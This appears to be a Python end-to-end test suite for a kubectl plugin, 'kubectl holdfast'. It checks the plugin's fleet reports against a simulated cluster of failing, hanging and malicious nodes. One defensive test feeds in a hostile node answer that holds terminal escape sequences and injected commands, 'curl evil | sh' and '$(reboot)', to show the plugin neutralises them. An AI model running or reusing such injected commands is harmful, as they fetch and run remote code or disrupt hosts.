#!/usr/bin/env python3
"""`kubectl holdfast` over a cluster that a stand-in for kubectl shows it: nodes that answer with what the real holdfast prints, and nodes that hang, fail, lie or say too much."""

import copy
import json
import os
import pathlib
import pty
import select
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

from manual import OPTION, commands, options_of, read_manual, section, synopses
from support import HOLDFAST, run_suite, which

PLUGIN = pathlib.Path(sys.argv.pop(1)).resolve()
STAND_IN = pathlib.Path(__file__).parents[1] / "support/kubectl"
COMMANDS = {"doctor": ["doctor"], "ps": ["ps"], "blame": ["blame"], "cpu": ["cpu", "status"]}
FINDING = {
    "code": "HF-101",
    "severity": "critical",
    "subject": "train-0/main",
    "container": "4f1c",
    "verdict": "lost the right to open /dev/nvidia0: its device rules were rewritten by systemd",
    "evidence": ["program:57 denies it"],
    "cure": ["holdfast heal train-0/main", "systemctl daemon-reload"],
    "needs_all_cures": False,
}
RECORD = {
    "version": 1,
    "number": 7,
    "at": "2026-11-15T05:14:08.123Z",
    "id": "4f1c",
    "container": "train-0/main",
    "engine": "containerd",
    "namespace": "ml",
    "kind": "attach",
    "hierarchy": "v2",
    "cgroup": "/kubepods/x",
    "writer": {"pid": 812, "name": "runc", "service": "kubelet"},
    "devices": ["/dev/nvidia0"],
    "action": "healed",
    "loss_ns": 38200,
}


def record(directory: pathlib.Path) -> dict[str, dict]:
    """What the real holdfast prints on this host."""
    (directory / "journal").mkdir(mode=0o700)
    (directory / "journal/blame.jsonl").write_text(json.dumps(RECORD) + "\n")
    documents = {}
    for name, command in COMMANDS.items():
        more = ["--journal", str(directory / "journal")] if name == "blame" else []
        done = subprocess.run([HOLDFAST, *command, *more, "-o", "json"], capture_output=True, text=True, timeout=120, check=False)
        documents[name] = json.loads(done.stdout)
    return documents


def pod_of(name: str, node: str, phase: str = "Running", namespace: str = "holdfast", containers: tuple[str, ...] = ("guard",)) -> dict:
    return {
        "metadata": {"name": name, "namespace": namespace, "labels": {"app.kubernetes.io/name": "holdfast"}},
        "spec": {"nodeName": node, "containers": [{"name": one, "env": [{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "x"}}}]} for one in containers]},
        "status": {"phase": phase, "conditions": [{"type": "Ready", "status": "True"}]},
    }


class Cluster:
    """The answers of the stand-in, in a directory."""

    def __init__(self, directory: pathlib.Path, nodes: int):
        self.directory = directory
        self.pods = [pod_of(f"guard-{number:03}", f"gpu-{number:03}") for number in range(nodes)]
        self.environment = os.environ | {"PATH": f"{STAND_IN}:{PLUGIN.parent}:/usr/bin:/bin", "KUBECTL_STAGE": str(directory), "KUBECTL_CALLS": "1"}

    def write(self, documents: dict[str, dict]) -> None:
        (self.directory / "pods.json").write_text(json.dumps({"kind": "List", "items": self.pods}))
        for name, document in documents.items():
            (self.directory / f"{name}.json").write_text(json.dumps(document, indent=2))

    def behave(self, number: int, script: str) -> None:
        (self.directory / f"guard-{number:03}.sh").write_text(script + "\n")

    def run(self, *arguments: str) -> subprocess.CompletedProcess:
        return subprocess.run([PLUGIN, *arguments], env=self.environment, capture_output=True, text=True, timeout=120, check=False)

    def calls(self) -> list[str]:
        return (self.directory / "calls").read_text().splitlines()


class Case(unittest.TestCase):
    recorded: dict[str, dict] = {}

    @classmethod
    def setUpClass(cls) -> None:
        if os.geteuid() != 0:
            raise unittest.SkipTest("needs root: holdfast's own documents are recorded on this host")
        with tempfile.TemporaryDirectory(prefix="hf-e2e-") as directory:
            cls.recorded = record(pathlib.Path(directory))

    def setUp(self) -> None:
        directory = tempfile.TemporaryDirectory(prefix="hf-e2e-")
        self.addCleanup(directory.cleanup)
        self.directory = pathlib.Path(directory.name)
        self.documents = copy.deepcopy(self.recorded)
        # The machine of the test may have problems of its own.
        self.documents["doctor"]["findings"] = [one for one in self.documents["doctor"]["findings"] if one["severity"] == "note"]
        self.documents["ps"]["containers"] = [one for one in self.documents["ps"]["containers"] if one["state"] in ("ok", "not owed")]

    def cluster(self, nodes: int) -> Cluster:
        cluster = Cluster(self.directory, nodes)
        cluster.write(self.documents)
        return cluster

    def answer_with(self, cluster: Cluster, number: int, document: dict, code: int = 1) -> None:
        """This node answers with another document."""
        file = self.directory / f"answer-{number:03}.json"
        file.write_text(json.dumps(document))
        cluster.behave(number, f'cat {file}; echo "command terminated with exit code {code}" >&2; exit {code}')

    def sick(self) -> dict:
        return self.documents["doctor"] | {"findings": [FINDING, *self.documents["doctor"]["findings"]]}

    def on_a_terminal(self, cluster: Cluster, *arguments: str, terminal: str = "xterm") -> str:
        ours, theirs = pty.openpty()
        process = subprocess.Popen([PLUGIN, *arguments], env=cluster.environment | {"TERM": terminal}, stdin=theirs, stdout=theirs, stderr=theirs)
        os.close(theirs)
        text = b""
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if select.select([ours], [], [], 0.2)[0]:
                try:
                    chunk = os.read(ours, 65536)
                except OSError:  # EIO: the other end is closed
                    break
                text += chunk
        os.close(ours)
        process.wait(timeout=10)
        return text.decode()


class Answers(Case):
    def test_a_cluster_without_a_problem(self):
        cluster = self.cluster(3)
        done = cluster.run("doctor")
        self.assertEqual((done.returncode, done.stderr), (0, ""), done.stdout)
        lines = done.stdout.splitlines()
        self.assertEqual(lines[0], "all 3 nodes are fine")
        self.assertRegex(lines[2], r"^NODE +VERDICT +GUARD$")
        self.assertEqual([line.split()[0] for line in lines[3:6]], ["gpu-000", "gpu-001", "gpu-002"])
        self.assertIn("exec -n holdfast guard-001 -c guard -- holdfast doctor -o json", cluster.calls())

    def test_a_sick_node_comes_first_with_a_cure_that_can_be_typed(self):
        cluster = self.cluster(4)
        self.answer_with(cluster, 2, self.sick())
        done = cluster.run("doctor", "--context", "my cluster")
        self.assertEqual(done.returncode, 1, done.stderr)
        lines = done.stdout.splitlines()
        self.assertEqual(lines[0], "1 of 4 nodes has critical problems")
        self.assertTrue(lines[3].startswith("gpu-002  1 critical problem"), lines[3])
        self.assertIn("HF-101 critical train-0/main: lost the right to open /dev/nvidia0", done.stdout)
        cure = "kubectl '--context=my cluster' exec -n holdfast guard-002 -c guard -- holdfast heal train-0/main"
        self.assertIn(f"either: {cure}\n    or: on gpu-002: systemctl daemon-reload\n", done.stdout)
        subprocess.run(cure, shell=True, env=cluster.environment, capture_output=True, check=False, timeout=60)
        self.assertEqual(cluster.calls()[-1], "--context=my cluster exec -n holdfast guard-002 -c guard -- holdfast heal train-0/main")

    def test_every_question(self):
        cluster = self.cluster(2)
        for command, columns, codes in (
            (["doctor"], ["VERDICT", "GUARD"], (0,)),
            (["ps"], ["CONTAINER", "POD", "ENGINE", "DEVICES", "STATE", "CPUS", "SINCE"], (0,)),
            (["blame"], ["TIME", "CONTAINER", "CHANGE", "LOST", "DONE"], (1,)),
            # What it says is read on this machine, where another suite may have containers of any kind.
            (["cpu", "status"], ["CONTAINER", "CPUS", "NUMA", "DEVICES ON", "DISTANCE", "PROBLEM"], (0, 1)),
        ):
            with self.subTest(command):
                done = cluster.run(*command)
                self.assertIn(done.returncode, codes, done.stdout)
                self.assertEqual(done.stderr, "")
                head = next(line for line in done.stdout.splitlines() if line.startswith("NODE"))
                self.assertEqual(head.replace("DEVICES ON", "DEVICES_ON").split(), ["NODE", *[one.replace(" ", "_") if one == "DEVICES ON" else one for one in columns]])
                self.assertIn("\ngpu-000 ", done.stdout)
                self.assertIn("\ngpu-001 ", done.stdout)
        blame = cluster.run("blame", "--since", "1h", "--losses")
        self.assertTrue(blame.stdout.startswith("2 of 2 nodes had losses that were restored\n"), blame.stdout)
        self.assertIn("ml/train-0/main", blame.stdout)
        self.assertIn("healed after 38 µs", blame.stdout)
        self.assertTrue(cluster.calls()[-1].endswith("holdfast blame --since=1h --losses -o json"))

    def test_only_some_nodes(self):
        cluster = self.cluster(5)
        done = cluster.run("doctor", "--node", "gpu-003", "--node=gpu-001", "--node", "gpu-099")
        self.assertEqual(done.returncode, 2)
        self.assertEqual(done.stdout.splitlines()[0], "2 of 3 nodes are fine; 1 did not answer")
        self.assertRegex(done.stdout, r"gpu-099 +- +no pod of holdfast is there\n")
        self.assertEqual(len([call for call in cluster.calls() if call.startswith("exec")]), 2)

    def test_a_pod_is_asked_about_on_its_node(self):
        cluster = self.cluster(5)
        (self.directory / "pod-train-0.json").write_text(json.dumps(pod_of("train-0", "gpu-004", namespace="ml", containers=("main",))))
        for arguments in (("ml/train-0",), ("train-0", "-n", "ml"), ("train-0",)):
            with self.subTest(arguments):
                (self.directory / "calls").unlink(missing_ok=True)
                done = cluster.run("doctor", *arguments)
                self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
                self.assertEqual(done.stdout.splitlines()[0], "the node is fine")
                where = "" if arguments == ("train-0",) else " -n ml"
                self.assertEqual(
                    cluster.calls(),
                    [f"get pod train-0{where} -o json", "get pods -A -l app.kubernetes.io/name=holdfast -o json", "exec -n holdfast guard-004 -c guard -- holdfast doctor ml/train-0 -o json"],
                )
        done = cluster.run("ps", "nothing")
        self.assertEqual((done.returncode, done.stderr), (2, 'holdfast: kubectl: Error from server (NotFound): pods "nothing" not found\n'))

    def test_a_pod_that_only_looks_like_holdfasts_is_not_asked(self):
        cluster = self.cluster(2)
        for stranger in (pod_of("aaa", "gpu-000", namespace="aaa-tenant"), pod_of("aaa", "gpu-000", phase="Pending", namespace="aaa-tenant")):
            cluster.pods[2:] = [stranger]
            cluster.write(self.documents)
            done = cluster.run("doctor")
            self.assertEqual((done.returncode, done.stdout), (2, ""))
            self.assertEqual(
                done.stderr,
                "holdfast: pods with the label 'app.kubernetes.io/name=holdfast' and a container 'guard' are in several namespaces: aaa-tenant, holdfast; "
                "say which is holdfast's: --holdfast-namespace NAMESPACE\n",
            )
        self.assertEqual([call for call in cluster.calls() if call.startswith("exec")], [])
        cluster.run("doctor", "--holdfast-namespace", "holdfast")
        self.assertIn("get pods -n holdfast -l app.kubernetes.io/name=holdfast -o json", cluster.calls())

    def test_a_document_of_a_pod_is_only_about_it(self):
        cluster = self.cluster(1)
        (self.directory / "pod-train-0.json").write_text(json.dumps(pod_of("train-0", "gpu-000", namespace="ml", containers=("main",))))
        done = cluster.run("blame", "ml/train-0", "-o", "json")
        self.assertEqual(done.returncode, 1, done.stderr)
        self.assertEqual(len(json.loads(done.stdout)["nodes"][0]["report"]["records"]), 1)
        for command, name in ((["ps"], "ps"), (["cpu", "status"], "cpu")):
            with self.subTest(command):
                tree = json.loads(cluster.run(*command, "ml/train-0", "-o", "json").stdout)
                self.assertEqual(tree["nodes"][0]["report"], self.documents[name] | {"containers": []})

    def test_where_the_pods_of_holdfast_are(self):
        cluster = self.cluster(1)
        cluster.run("ps", "-n", "gpu", "-l", "app=x", "--kubeconfig", "/k")
        self.assertEqual(cluster.calls()[0], "--kubeconfig=/k get pods -n gpu -l app=x -o json")
        done = cluster.run("doctor", "--container", "other")
        self.assertEqual((done.returncode, done.stderr), (2, "holdfast: no pod with the label 'app.kubernetes.io/name=holdfast' has a container 'other'\n"))


class Documents(Case):
    def test_json_has_the_document_of_each_node(self):
        cluster = self.cluster(3)
        self.answer_with(cluster, 1, self.sick())
        cluster.behave(2, "exit 1")
        done = cluster.run("doctor", "-o", "json")
        self.assertEqual(done.returncode, 1, done.stderr)
        tree = json.loads(done.stdout)
        self.assertEqual((tree["version"], tree["schema"], tree["command"]), (1, "fleet", "doctor"))
        self.assertEqual([node["node"] for node in tree["nodes"]], ["gpu-000", "gpu-001", "gpu-002"])
        self.assertEqual(tree["nodes"][0], {"node": "gpu-000", "answered": True, "namespace": "holdfast", "pod": "guard-000", "report": self.documents["doctor"]})
        self.assertEqual(tree["nodes"][1]["report"], self.sick())
        self.assertEqual((tree["nodes"][2]["answered"], tree["nodes"][2]["error"]), (False, "kubectl ended with exit code 1"))
        self.assertNotIn("report", tree["nodes"][2])
        self.assertEqual(
            tree["verdict"],
            {"level": "critical", "headline": "1 of 3 nodes has critical problems; 1 did not answer", "nodes": 3, "critical": 1, "warning": 0, "undecided": 0, "unanswered": 1},
        )

    def test_yaml_is_the_same_tree(self):
        cluster = self.cluster(2)
        lines = cluster.run("cpu", "status", "-o", "yaml").stdout.splitlines()
        self.assertEqual(lines[:6], ['"version": 1', '"schema": "fleet"', '"command": "cpu status"', '"nodes":', "  -", '    "node": "gpu-000"'])
        self.assertIn('"verdict":', lines)
        self.assertIn('      "version": 1', lines)


class BadNodes(Case):
    def test_nodes_that_do_not_answer_are_named(self):
        cluster = self.cluster(8)
        cluster.pods.append(pod_of("guard-900", "gpu-900", phase="Pending"))
        cluster.pods.append(pod_of("webhook", "gpu-901", containers=("server",)))
        cluster.write(self.documents)
        cluster.behave(1, "sleep 100 & sleep 100")
        cluster.behave(2, "echo 'error: unable to upgrade connection: container not found' >&2; exit 1")
        cluster.behave(3, "echo '<html>garbage'; exit 0")
        cluster.behave(4, "echo '{\"version\": 2, \"findings\": []}'; exit 0")
        cluster.behave(5, "while :; do cat /dev/zero; done")
        cluster.behave(6, "sleep 1")  # slow, and then it answers
        wide = self.documents["doctor"] | {"x": {f"k{number}": 1 for number in range(80_000)}}
        cluster.pods.append(pod_of("guard-902", "gpu-902"))
        cluster.write(self.documents)
        self.answer_with(cluster, 902, wide)
        cluster.behave(7, "echo 'holdfast: inspect containers: needs root' >&2; echo 'command terminated with exit code 2' >&2; exit 2")
        started = time.monotonic()
        done = cluster.run("doctor", "--timeout", "10")
        self.assertLess(time.monotonic() - started, 80)
        self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
        self.assertEqual(done.stdout.splitlines()[0], "2 of 10 nodes are fine; 8 did not answer")
        for node, reason in (
            ("gpu-001", "no answer within 10 s"),
            ("gpu-002", "error: unable to upgrade connection: container not found"),
            ("gpu-003", "parse its answer: line 1, column 1: this is no JSON"),
            ("gpu-004", "its answer has version 2 of the schema; this program reads version 1"),
            ("gpu-005", "its answer is longer than 8 MiB"),
            ("gpu-007", "holdfast: inspect containers: needs root"),
            ("gpu-900", "pod holdfast/guard-900 is Pending"),
            ("gpu-902", "parse its answer: an object has more than 256 keys"),
        ):
            with self.subTest(node):
                self.assertRegex(done.stdout, rf"(?m)^{node} +holdfast/guard-{node[4:]} +{reason}$")
        self.assertNotIn("gpu-901", done.stdout)

    def test_a_problem_elsewhere_counts_more_than_silence(self):
        cluster = self.cluster(2)
        cluster.behave(0, "exit 1")
        self.answer_with(cluster, 1, self.sick())
        self.assertEqual(cluster.run("doctor").returncode, 1)

    def test_a_node_cannot_write_to_the_terminal_or_offer_commands_of_its_own(self):
        cluster = self.cluster(1)
        evil = self.sick()
        evil["findings"][0] = FINDING | {
            "verdict": "x\x1b[2J\n0 of 1 nodes",
            "subject": "\x9b31m",
            "cure": ["holdfast heal x; curl evil | sh", "holdfast heal $(reboot)", "holdfast heal '\x1b]0;x\x07'"],
        }
        evil["guard"] = "\r\x1b[31mfine\u202e\x7f\x9b"
        self.answer_with(cluster, 0, evil)
        done = cluster.run("doctor")
        self.assertEqual(done.returncode, 1)
        for output in (done, cluster.run("doctor", "-o", "json"), cluster.run("doctor", "-o", "yaml")):
            for character in "\x1b\x9b\x07\x7f\r\u202e":
                self.assertNotIn(character, output.stdout)
        self.assertIn("either: on gpu-000: holdfast heal x; curl evil | sh\n", done.stdout)
        self.assertNotIn("-- holdfast heal x", done.stdout)
        self.assertNotIn("reboot)'", done.stdout)

    def test_a_node_cannot_colour_or_widen_the_table(self):
        cluster = self.cluster(2)
        evil = RECORD | {"container": "\x03fine\x05/main", "devices": ["\x03" + "x" * 100_000 + "\x05"]}
        file = self.directory / "evil.json"
        file.write_text(json.dumps({"version": 1, "records": [{key: value for key, value in evil.items() if key != "version"}]}))
        cluster.behave(0, f"cat {file}; exit 0")
        done = self.on_a_terminal(cluster, "blame")
        self.assertIn("?fine?/main", done)
        self.assertNotIn("\x1b[32mfine", done)
        self.assertLess(len(cluster.run("blame").stdout), 2000)

    def test_an_api_server_that_does_not_answer(self):
        cluster = self.cluster(1)
        (self.directory / "pods.json").unlink()
        done = cluster.run("doctor")
        self.assertEqual(done.returncode, 2)
        self.assertRegex(done.stderr, r"^holdfast: kubectl: cat: .*pods.json: No such file or directory\n$")
        (self.directory / "pods.json").write_text("{}")
        self.assertEqual(cluster.run("doctor").stderr, "holdfast: parse the list of pods: it has no items\n")
        (self.directory / "pods.json").write_text(json.dumps({"items": [pod_of("-x", "a")]}))
        self.assertEqual(cluster.run("doctor").stderr, "holdfast: kubectl names a pod whose name is '-x'\n")

    def test_children_end_with_the_plugin(self):
        cluster = self.cluster(2)
        for number in range(2):
            cluster.behave(number, f"echo $$ >{self.directory}/pid-{number}; exec sleep 300")
        plugin = subprocess.Popen([PLUGIN, "doctor"], env=cluster.environment, stdout=subprocess.DEVNULL)
        files = [self.directory / f"pid-{number}" for number in range(2)]
        deadline = time.monotonic() + 30
        while not all(file.exists() and file.read_text().strip() for file in files) and time.monotonic() < deadline:
            time.sleep(0.05)
        plugin.kill()
        plugin.wait()
        for file in files:
            process = pathlib.Path("/proc") / file.read_text().strip()
            while process.exists() and time.monotonic() < deadline and "Z" not in (process / "stat").read_text().split()[2]:
                time.sleep(0.05)
            self.assertFalse(process.exists() and "sleep" in (process / "cmdline").read_text())


class CommandLine(Case):
    def test_bad_arguments_get_one_clear_line_and_exit_2(self):
        cluster = self.cluster(1)
        for arguments, names in (
            (("docter",), "no command 'docter'; did you mean doctor? (see kubectl holdfast --help)"),
            ((), "a command is missing"),
            (("cpu",), "a command is missing; there are status"),
            (("doctor", "--nod", "x"), "did you mean --node?"),
            (("doctor", "--node", "-A"), "node '-A'"),
            (("doctor", "--node", "UP"), "node 'UP'"),
            (("doctor", "--node", "a", "-A"), "excludes"),
            (("doctor", "a/b", "-A"), "excludes"),
            (("doctor", "a/b/c"), "pod 'a/b/c': want NAME or NAMESPACE/NAME"),
            (("doctor", "a/b", "-n", "c"), "--namespace says 'c'"),
            (("doctor", "-n", "C"), "namespace 'C'"),
            (("doctor", "--parallel", "0"), "parallel"),
            (("doctor", "--timeout", "0"), "timeout"),
            (("doctor", "-o", "toml"), "toml"),
        ):
            with self.subTest(arguments):
                done = cluster.run(*arguments)
                self.assertEqual((done.returncode, done.stdout), (2, ""), done.stderr)
                self.assertEqual(done.stderr.count("\n"), 1, done.stderr)
                self.assertTrue(done.stderr.startswith("holdfast: "), done.stderr)
                self.assertIn(names, done.stderr)

    def test_without_kubectl(self):
        cluster = self.cluster(1)
        cluster.environment["PATH"] = "/nowhere"
        self.assertEqual(cluster.run("doctor").stderr, "holdfast: there is no kubectl in $PATH\n")

    def test_progress_and_colours_are_for_terminals(self):
        cluster = self.cluster(3)
        cluster.behave(0, "sleep 3")
        quiet = cluster.run("doctor")
        self.assertEqual(quiet.stderr, "")
        self.assertNotIn("\x1b", quiet.stdout)
        shown = self.on_a_terminal(cluster, "doctor")
        self.assertIn("asked 2 of 3 nodes", shown)
        self.assertIn("\x1b[32mall 3 nodes are fine\x1b[0m", shown)
        dumb = self.on_a_terminal(cluster, "doctor", terminal="dumb")
        self.assertTrue(dumb.startswith("all 3 nodes are fine"), dumb)
        self.assertNotIn("\x1b", dumb)

    def test_kubectl_finds_the_plugin(self):
        kubectl = which("kubectl")
        if kubectl is None:
            self.skipTest("there is no kubectl")
        with tempfile.TemporaryDirectory(prefix="hf-e2e-") as directory:
            shutil.copy(PLUGIN, pathlib.Path(directory) / "kubectl-holdfast")
            environment = os.environ | {"PATH": f"{directory}:{os.environ['PATH']}"}
            for arguments, text in ((["--help"], "kubectl holdfast"), (["cpu", "status", "--help"], "--parallel")):
                done = subprocess.run([kubectl, "holdfast", *arguments], env=environment, capture_output=True, text=True, timeout=60, check=False)
                self.assertEqual(done.returncode, 0, done.stderr)
                self.assertIn(text, done.stdout)


class Manual(unittest.TestCase):
    def test_it_has_every_command_and_every_option(self):
        helps, page = dict(commands(PLUGIN)), read_manual("kubectl-holdfast.1")
        self.assertEqual(sorted(synopses(page, "kubectl holdfast")), sorted(helps))
        known = {name for text in helps.values() for names in options_of(text) for name in names}
        self.assertEqual(set(OPTION.findall(section(page, "OPTIONS"))) - {"--help", "--version"}, known)


class ManyNodes(Case):
    def test_500_nodes(self):
        cluster = self.cluster(500)
        self.answer_with(cluster, 123, self.sick())
        for number in (7, 300):
            cluster.behave(number, "sleep 100")
        started = time.monotonic()
        done = cluster.run("doctor", "--timeout", "10")
        self.assertEqual(done.stdout.splitlines()[0], "1 of 500 nodes has critical problems; 2 did not answer", done.stderr)
        self.assertEqual(done.returncode, 1)
        self.assertTrue(done.stdout.splitlines()[3].startswith("gpu-123 "))
        self.assertEqual(done.stdout.count("\ngpu-"), 501)  # 498 rows, the findings of one, and two without an answer
        # Sanitizers and tests beside this one take their time: bench/fleet_bench.py measures.
        self.assertLess(time.monotonic() - started, 100)


if __name__ == "__main__":
    run_suite()
